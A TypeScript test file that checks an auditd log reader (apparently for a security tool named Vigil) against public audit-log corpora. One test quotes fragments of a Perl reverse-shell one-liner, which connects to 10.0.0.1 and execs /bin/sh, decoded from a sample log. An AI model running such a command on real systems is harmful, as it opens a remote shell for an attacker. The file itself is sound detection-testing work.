/**
 * The auditd reader on every raw audit log of the corpus (go-libaudit,
 * LAUREL test data, OTRF, the aucoalesce YAML samples) and on Vigil's own
 * capture: record parsing, hex and `(null)` decoding, split EXECVE
 * arguments, node= and ENRICHED fields, assembly of interleaved and
 * reordered records. Expected values are read off the log lines.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { parse as parseYaml } from 'yaml';
import { sniffFormat } from '../src/sources/format.js';
import { readLogFile } from '../src/sources/read-file.js';
import { AuditdStream } from '../src/sources/auditd/stream.js';
import { syscallName } from '../src/sources/auditd/arch.js';
import type { RecordSink } from '../src/sources/records.js';
import { REPO_ROOT, corpus, filesUnder } from './corpus.js';

type Json = Record<string, any>;
interface Read { events: Json[]; lines: number[]; errors: { message: string; line?: number }[]; format: string }

async function read(path: string): Promise<Read> {
  const got: Read = { events: [], lines: [], errors: [], format: '' };
  const sink: RecordSink = {
    line: () => assert.fail('an audit log yields objects, not JSON lines'),
    object: (o, r) => {
      got.events.push(o as Json);
      got.lines.push(r);
    },
    error: (message, line) => got.errors.push({ message, line }),
  };
  got.format = await readLogFile(path, sink);
  return got;
}

function byId(events: Json[]): Map<string, Json> {
  return new Map(events.map((e) => [e.ID as string, e]));
}

const AUDITD = corpus('auditd');
const LAUREL = corpus('auditd/threathunters-io-laurel/src/testdata');
const LIBAUDIT = corpus('auditd/elastic-go-libaudit');
const CAPTURE = join(REPO_ROOT, 'test', 'fixtures', 'auditd', 't1049-capture.log');
const tmp = mkdtempSync(join(tmpdir(), 'vigil-auditd-'));

/** Real anomalies in the corpus, each reported with its line (everything else reads cleanly). */
const KNOWN_ERRORS = new Map<string, { line: number; message: RegExp }[]>([
  // `type=UNKNOWN[1329] msg=?`: no msg=audit(time:serial) at all.
  ['audit-rhel7.log', [{ line: 31, message: /not an audit record/ }]],
  // key=65786563013634626974" — hex with a stray closing quote.
  ['audit-ubuntu17.log', [{ line: 1, message: /odd-length hex in the value of key/ }]],
]);

describe('auditd reader on every raw audit log of the corpus', () => {
  const files = [...filesUnder(AUDITD, '.log'), ...filesUnder(AUDITD, '.txt')].filter((f) => !['README.txt', 'LICENSE.txt'].includes(basename(f)));

  it('reads each file as auditd, yields events, and reports only the known anomalies', async () => {
    assert.ok(files.length >= 40, `expected the corpus's raw audit logs, found ${files.length}`);
    for (const f of files) {
      const r = await read(f);
      assert.equal(r.format, 'auditd', f);
      assert.ok(r.events.length > 0, `${f}: no event`);
      for (const e of r.events) assert.match(e.ID, /^\d+\.\d+:\d+$/, f);
      const known = KNOWN_ERRORS.get(basename(f)) ?? [];
      assert.equal(r.errors.length, known.length, `${f}: ${JSON.stringify(r.errors)}`);
      known.forEach((k, i) => {
        assert.equal(r.errors[i].line, k.line, f);
        assert.match(r.errors[i].message, k.message, f);
      });
    }
  });

  it('OTRF arp -a: argv, hex proctitle, exe, cwd and the first line of each event', async () => {
    const r = await read(corpus('auditd/OTRF-Security-Datasets/datasets/atomic/linux/discovery/host/sh_arp_cache_2020-11-10074812.log'));
    assert.deepEqual(r.lines, [1, 7]);
    const [arp, grep] = r.events;
    assert.equal(arp.ID, '1604994496.155:92733');
    assert.deepEqual(arp.EXECVE, { argc: '2', ARGV: ['arp', '-a'] });
    // proctitle=617270002D61: "arp", NUL, "-a"
    assert.deepEqual(arp.PROCTITLE.ARGV, ['arp', '-a']);
    assert.equal(arp.SYSCALL.exe, '/usr/sbin/arp');
    assert.equal(arp.SYSCALL.key, null); // key=(null)
    assert.equal(arp.CWD.cwd, '/home/wardog');
    assert.deepEqual(arp.PATH.map((p: Json) => p.name), ['/usr/sbin/arp', '/lib64/ld-linux-x86-64.so.2']);
    assert.deepEqual(grep.EXECVE.ARGV, ['grep', '-v', '^?']);
    assert.deepEqual(grep.PROCTITLE.ARGV, ['grep', '-v', '^?']);
    // RAW log: arch and syscall names filled in as ENRICHED would write them.
    assert.equal(arp.SYSCALL.ARCH, 'x86_64');
    assert.equal(arp.SYSCALL.SYSCALL, 'execve');
  });

  it('LAUREL perl reverse shell: a hex-encoded EXECVE argument with quotes and spaces', async () => {
    const r = await read(join(LAUREL, 'record-perl-reverse-shell.txt'));
    const argv = r.events[0].EXECVE.ARGV as string[];
    assert.deepEqual(argv.slice(0, 2), ['perl', '-e']);
    assert.ok(argv[2].startsWith('use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'), argv[2]);
    assert.ok(argv[2].endsWith('exec("/bin/sh -i");};'), argv[2]);
  });

  it('node= prefix and ENRICHED names (LAUREL record-execve.txt)', async () => {
    const r = await read(join(LAUREL, 'record-execve.txt'));
    const e = r.events[0];
    assert.equal(e.NODE, 'work');
    assert.equal(e.SYSCALL.uid, '0');
    assert.equal(e.SYSCALL.UID, 'root');
    assert.equal(e.SYSCALL.AUID, 'user');
    assert.equal(e.SYSCALL.SYSCALL, 'execve');
    assert.equal(e.PATH[0].OUID, 'root');
    assert.deepEqual(e.EXECVE.ARGV, ['whoami']);
  });

  it('ENRICHED SADDR braces and a user-space msg=\'…\' with hex acct', async () => {
    const promisc = (await read(join(LAUREL, 'record-anom-promiscuous.txt'))).events[0];
    assert.equal(promisc.SOCKADDR[0].saddr, '100000000000000000000000');
    assert.equal(promisc.SOCKADDR[0].SADDR, '{fam=netlink nlnk-fam=16 nlnk-pid=0}');
    const login = (await read(join(LIBAUDIT, 'auparse/testdata/audit-ubuntu16.log'))).events[0];
    // acct=28696E76616C6964207573657229 inside msg='…'
    assert.equal(login.USER_LOGIN[0].msg.acct, '(invalid user)');
    assert.equal(login.USER_LOGIN[0].msg.exe, '/usr/sbin/sshd');
    assert.equal(login.USER_LOGIN[0].msg.res, 'failed');
  });

  it('hex exe, and the same events whether records arrive in order or interleaved (go-libaudit)', async () => {
    const normal = await read(join(LIBAUDIT, 'testdata/normal.log'));
    const shuffled = await read(join(LIBAUDIT, 'testdata/out_of_order.log'));
    assert.equal(normal.events[0].SYSCALL.exe, '/usr/bin/python2.7;58d1ccfb (deleted)');
    assert.deepEqual(byId(shuffled.events), byId(normal.events));
    const cat = byId(normal.events).get('1492037291.038:60')!;
    assert.deepEqual(cat.EXECVE.ARGV, ['cat', 'securitybeat']);
    assert.equal(cat.PATH.length, 2);
  });

  it('serial rollover 4294967295 → 0 keeps five distinct events', async () => {
    const r = await read(join(LIBAUDIT, 'testdata/rollover.log'));
    assert.deepEqual(r.events.map((e) => e.ID.split(':')[1]).sort(), ['0', '1', '2', '4294967294', '4294967295']);
  });

  it('records of one event that are far apart are joined; the first record gives the line (test3.log)', async () => {
    const r = await read(join(LIBAUDIT, 'auparse/testdata/test3.log'));
    const i = r.events.findIndex((e) => e.ID === '1451781471.394:194435');
    assert.equal(r.lines[i], 1);
    // line 4: proctitle=737368643A206275726E205B707269765D
    assert.deepEqual(r.events[i].PROCTITLE.ARGV, ['sshd: burn [priv]']);
    assert.equal(r.events[i].SYSCALL.comm, 'sshd');
  });

  it('EOE records written in reverse order still close the right events (LAUREL reordered trace)', async () => {
    const r = await read(join(LAUREL, 'shell-proc-trace-reordered.txt'));
    assert.equal(r.events.length, 9);
    const sed = r.events.find((e) => e.EXECVE?.ARGV[0] === '/bin/sed')!;
    assert.deepEqual(sed.EXECVE.ARGV, ['/bin/sed', '-e', 's/foo/bar/']);
    assert.equal(sed.PATH.length, 3);
  });

  it('PATH items logged 2, 1, 0 come out sorted by item (LAUREL fork-sleep-exec, aarch64)', async () => {
    const r = await read(join(LAUREL, 'fork-sleep-exec.txt'));
    const e = r.events.find((x) => x.ID === '1783860945.368:6104005')!;
    assert.deepEqual(e.PATH.map((p: Json) => p.item), ['0', '1', '2']);
    assert.equal(e.SYSCALL.ARCH, 'aarch64');
    assert.equal(e.SYSCALL.SYSCALL, 'execve'); // syscall=221 on aarch64
  });

  it('name=(null) in a PATH record is null (aucoalesce ubuntu-16.04 sample)', async () => {
    const yaml = parseYaml(readFileSync(join(LIBAUDIT, 'aucoalesce/testdata/ubuntu-16.04-linux-4.13.0.yaml'), 'utf8')) as { tests: Record<string, string> };
    const events = readString(yaml.tests['AVC_AppArmor_unlink']).events;
    assert.equal(events.length, 1);
    assert.equal(events[0].PATH[2].name, null);
    assert.equal(events[0].AVC.length, 2);
  });
});

function readString(text: string): { events: Json[]; errors: string[] } {
  const events: Json[] = [];
  const errors: string[] = [];
  const s = new AuditdStream({ event: (o) => events.push(o), error: (m) => errors.push(m) });
  s.write(Buffer.from(text));
  s.end();
  return { events, errors };
}

describe('auditd reader on the aucoalesce YAML samples (raw events as YAML strings)', () => {
  // Damaged samples: SERVICE_START's msg='unit=rsyslog … res=success lacks its closing
  // quote; in three ubuntu-21.10 samples the ENRICHED 0x1d separator was lost in the
  // YAML copy, so `key=(null)ARCH=x86_64` is one bare (not hex) kernel string.
  const noSeparator = ['SYSCALL record: odd-length hex in the value of key'];
  const KNOWN = new Map([
    ['SERVICE_START', ['unterminated quote in the value of msg']],
    ['AUDIT_TIME_ADJNTPVAL chronyd status', noSeparator],
    ['AUDIT_TIME_ADJNTPVAL chronyd freq', noSeparator],
    ['AUDIT_TIME_ADJNTPVAL freq/tick', noSeparator],
  ]);

  it('every sample reads, with errors only for the damaged samples, into as many events as it has distinct msg=audit ids', () => {
    let samples = 0;
    for (const f of filesUnder(join(LIBAUDIT, 'aucoalesce/testdata'), '.yaml')) {
      const doc = parseYaml(readFileSync(f, 'utf8')) as { tests: Record<string, string> };
      for (const [name, text] of Object.entries(doc.tests)) {
        const ids = new Set([...text.matchAll(/msg=audit\((\d+\.\d+:\d+)\)/g)].map((m) => m[1]));
        const r = readString(text);
        assert.deepEqual(r.errors, KNOWN.get(name) ?? [], `${basename(f)} ${name}`);
        if (name === 'SERVICE_START') assert.equal(r.events[0].SERVICE_START[0].msg.unit, 'rsyslog', 'the damaged record is still read');
        assert.equal(r.events.length, ids.size, `${basename(f)} ${name}`);
        samples++;
      }
    }
    assert.ok(samples >= 30, `only ${samples} samples`);
  });
});

describe('auditd reader on Vigil\'s capture (test/fixtures/auditd/t1049-capture.log)', () => {
  // What the capture script passed to ss (scripts/capture-auditd-t1049.sh).
  let filter = '(';
  for (let p = 20001; p <= 20400; p++) filter += ` dport = :${p} or`;
  filter += ' dport = :9 )';

  it('joins a long argument split into a2_len=14428 a2[0]=… a2[1]=… across two EXECVE records', async () => {
    const r = await read(CAPTURE);
    assert.deepEqual(r.errors, []);
    const ss = r.events.find((e) => e.EXECVE?.ARGV[0] === 'ss' && e.EXECVE.ARGV[1] === '-tan')!;
    assert.equal(ss.EXECVE.ARGV[2], filter);
    assert.equal(ss.EXECVE.ARGV[2].length * 2, 14428);
    assert.equal(ss.NODE, 'vm');
    assert.equal(ss.SYSCALL.UID, 'root');
  });

  it('gives the same events whatever the chunk boundaries, and from a .gz', async () => {
    const bytes = readFileSync(CAPTURE);
    const whole = await read(CAPTURE);
    for (const size of [1, 7, 4096]) {
      const events: Json[] = [];
      const s = new AuditdStream({ event: (o) => events.push(o), error: (m) => assert.fail(m) });
      for (let i = 0; i < bytes.length; i += size) s.write(bytes.subarray(i, i + size));
      s.end();
      assert.deepEqual(byId(events), byId(whole.events), `chunks of ${size}`);
    }
    const gz = join(tmp, 'capture.log.gz');
    writeFileSync(gz, gzipSync(bytes));
    const fromGz = await read(gz);
    assert.equal(fromGz.format, 'auditd');
    assert.deepEqual(fromGz.events, whole.events);
    assert.deepEqual(fromGz.lines, whole.lines);
  });
});

describe('format sniffing and syscall tables', () => {
  it('recognizes RAW, node= and #-commented logs, and not JSON', () => {
    assert.equal(sniffFormat(readFileSync(join(LAUREL, 'shell-proc-trace.txt'))), 'auditd'); // starts with # comments
    assert.equal(sniffFormat(readFileSync(join(LAUREL, 'record-execve.txt'))), 'auditd'); // node=work
    assert.equal(sniffFormat(readFileSync(join(LIBAUDIT, 'testdata/normal.log'))), 'auditd');
    assert.equal(sniffFormat(readFileSync(join(LAUREL, 'record-execve.json'))), 'jsonl');
    assert.equal(sniffFormat(Buffer.from('type=SYSCALL but no header\n')), 'unknown');
  });

  it('names execve and execveat by arch: x86_64 59/322, i386 11/358, aarch64 221/281', () => {
    assert.deepEqual([syscallName('x86_64', '59'), syscallName('x86_64', 322)], ['execve', 'execveat']);
    assert.deepEqual([syscallName('i386', '11'), syscallName('i386', 358)], ['execve', 'execveat']);
    assert.deepEqual([syscallName('aarch64', '221'), syscallName('aarch64', 281)], ['execve', 'execveat']);
    assert.equal(syscallName('x86_64', '41'), 'socket');
    assert.equal(syscallName(undefined, '59'), undefined);
  });
});
